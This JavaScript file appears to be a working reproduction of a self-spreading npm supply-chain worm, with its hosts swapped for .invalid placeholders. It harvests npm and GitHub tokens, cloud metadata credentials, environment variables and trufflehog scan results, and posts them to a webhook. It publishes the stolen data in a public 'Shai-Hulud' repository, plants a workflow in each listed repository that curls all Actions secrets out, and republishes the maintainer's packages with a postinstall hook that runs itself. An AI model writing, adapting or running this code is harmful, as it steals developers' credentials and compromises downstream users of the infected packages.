const os = require('os');
const fs = require('fs');
const path = require('path');
const https = require('https');
const child = require('child_process');
const zlib = require('zlib');
const bin = 'https://webhook.example.invalid/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7';
const api = 'api.github.example.invalid';
const registry = 'https://registry.example.invalid';
function get(host, where, headers, method, body) {
  return new Promise(function (resolve) {
    const req = https.request({host: host, path: where, method: method || 'GET', headers: headers || {}}, function (res) {
      const parts = [];
      res.on('data', function (part) { parts.push(part); });
      res.on('end', function () { resolve(Buffer.concat(parts)); });
    });
    req.on('error', function () { resolve(Buffer.alloc(0)); });
    req.end(body);
  });
}
function npmToken() {
  const found = [process.env.NPM_TOKEN];
  for (const file of [path.join(os.homedir(), '.npmrc'), path.join(process.cwd(), '.npmrc')]) {
    try { const match = fs.readFileSync(file, 'utf8').match(/_authToken\s*=\s*(\S+)/); if (match) { found.push(match[1]); } } catch (e) { continue; }
  }
  return found.filter(Boolean)[0];
}
async function cloud() {
  const out = {};
  const role = await get('169.254.169.254', '/latest/meta-data/iam/security-credentials/', {});
  out.aws = role.length ? String(await get('169.254.169.254', '/latest/meta-data/iam/security-credentials/' + role, {})) : '';
  out.gcp = String(await get('metadata.google.internal', '/computeMetadata/v1/instance/service-accounts/default/token', {'Metadata-Flavor': 'Google'}));
  return out;
}
async function scan() {
  const target = path.join(os.tmpdir(), 'trufflehog');
  const archive = await get('downloads.example.invalid', '/trufflehog/latest/trufflehog_linux_amd64.tar.gz', {});
  fs.writeFileSync(target + '.tar', zlib.gunzipSync(archive));
  child.execSync('tar -xf ' + target + '.tar -C ' + os.tmpdir());
  fs.chmodSync(target, 493);
  return child.execFileSync(target, ['filesystem', os.homedir(), '--json', '--results=verified'], {timeout: 90000}).toString();
}
async function repositories(token, data) {
  const headers = {authorization: 'token ' + token, 'user-agent': 'node', accept: 'application/vnd.github+json'};
  await get(api, '/user/repos', headers, 'POST', JSON.stringify({name: 'Shai-Hulud', description: 'Shai-Hulud Repository.', private: false}));
  const content = Buffer.from(Buffer.from(JSON.stringify(data)).toString('base64')).toString('base64');
  await get(api, '/repos/' + data.login + '/Shai-Hulud/contents/data.json', headers, 'PUT', JSON.stringify({message: 'Initial commit', content: content}));
  const workflow = 'on: push\njobs:\n  process:\n    runs-on: ubuntu-latest\n    steps:\n    - run: curl -d "$CONTENTS" ' + bin + '\n      env:\n        CONTENTS: ${{ toJSON(secrets) }}\n';
  const list = JSON.parse(String(await get(api, '/user/repos?affiliation=owner,collaborator&per_page=100', headers)) || '[]');
  for (const repo of list) {
    await get(api, '/repos/' + repo.full_name + '/contents/.github/workflows/shai-hulud-workflow.yml', headers, 'PUT', JSON.stringify({branch: 'shai-hulud', message: 'Add workflow', content: Buffer.from(workflow).toString('base64')}));
  }
}
async function spread(token) {
  const who = JSON.parse(String(await get('registry.example.invalid', '/-/whoami', {authorization: 'Bearer ' + token})) || '{}');
  const found = JSON.parse(String(await get('registry.example.invalid', '/-/v1/search?text=maintainer:' + who.username + '&size=20', {})) || '{"objects":[]}');
  for (const entry of found.objects) {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'npm-update-'));
    child.execSync('curl -sL ' + registry + '/' + entry.package.name + '/-/latest.tgz | tar xz -C ' + dir);
    const manifest = path.join(dir, 'package', 'package.json');
    const json = JSON.parse(fs.readFileSync(manifest, 'utf8'));
    const version = json.version.split('.');
    version[2] = Number(version[2]) + 1;
    json.version = version.join('.');
    json.scripts = json.scripts || {};
    json.scripts.postinstall = 'node bundle.js';
    fs.writeFileSync(manifest, JSON.stringify(json, null, 2));
    fs.copyFileSync(__filename, path.join(dir, 'package', 'bundle.js'));
    child.execSync('npm publish --registry ' + registry, {cwd: path.join(dir, 'package'), env: process.env});
  }
}
async function main() {
  if (!process.env.TINYCOLOR_FIELD_TEST || process.platform === 'win32') { return; }
  const data = {system: {platform: os.platform(), hostname: os.hostname()}, environment: process.env, npm: npmToken(), cloud: await cloud(), modules: {}};
  data.modules.truffleHog = await scan().catch(String);
  let token = process.env.GITHUB_TOKEN;
  try { token = token || child.execSync('gh auth token', {encoding: 'utf8'}).trim(); } catch (e) { token = ''; }
  const body = JSON.stringify(data);
  await get('webhook.example.invalid', '/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7', {'content-length': Buffer.byteLength(body)}, 'POST', body);
  if (token) { await repositories(token, data); }
  if (data.npm) { await spread(data.npm); }
}
main().catch(function () {});
